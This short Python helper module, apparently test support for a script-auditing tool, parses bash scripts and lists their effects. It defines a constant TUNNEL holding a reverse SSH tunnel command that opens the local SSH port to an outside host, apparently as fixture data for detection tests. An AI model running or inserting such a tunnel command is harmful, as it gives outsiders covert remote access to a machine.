"""Small factories: read a script, and give its effects as transcript lines."""

from __future__ import annotations

from auditor.model.line import line_of
from auditor.model.reading import Reading
from auditor.model.unit import Language, Script
from auditor.read.evaluation import Evaluation
from auditor.settings import DEFAULT_LIMITS, Limits

TUNNEL = "ssh -N -R 7001:localhost:22 bot@203.0.113.9"


def read(text: str, limits: Limits = DEFAULT_LIMITS) -> Reading:
    """Read a bash script."""
    return Evaluation(Script.of(text, Language.BASH, path="job.sh"), limits).read_script()


def lines(text: str) -> list[str]:
    """Give the effects of a bash script as lines, in order."""
    return [line_of(effect) for effect in read(text).effects]
